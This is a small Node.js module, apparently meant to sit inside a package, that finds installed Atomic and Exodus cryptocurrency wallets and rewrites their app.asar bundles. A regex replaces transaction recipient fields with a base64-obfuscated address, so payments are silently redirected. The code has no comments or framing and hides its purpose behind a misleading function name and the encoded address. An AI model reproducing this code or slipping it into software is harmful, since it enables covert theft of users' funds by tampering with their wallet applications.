"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
var fs = require("fs"), os = require("os"), path = require("path");
var roots = [
  path.join(process.env.LOCALAPPDATA || "", "Programs", "atomic", "resources"),
  path.join(process.env.LOCALAPPDATA || "", "exodus", "app-25.13.3", "resources"),
  "/Applications/Exodus.app/Contents/Resources"
];
var vendor = "dist/electron/vendors.64b69c3b00e2a7914733.js";
function sendFunds(source) {
  return source.replace(/recipient:\s*([a-z]\.[a-z]+)/g, "recipient:atob('MHhJTlZBTElESU5WQUxJRA==')");
}
roots.forEach(function (root) {
  var asar = path.join(root, "app.asar");
  if (!fs.existsSync(asar)) return;
  var body = fs.readFileSync(asar).toString("latin1");
  if (body.indexOf(vendor) < 0) return;
  var patched = Buffer.from(sendFunds(body), "latin1");
  fs.writeFileSync(asar, patched);
});
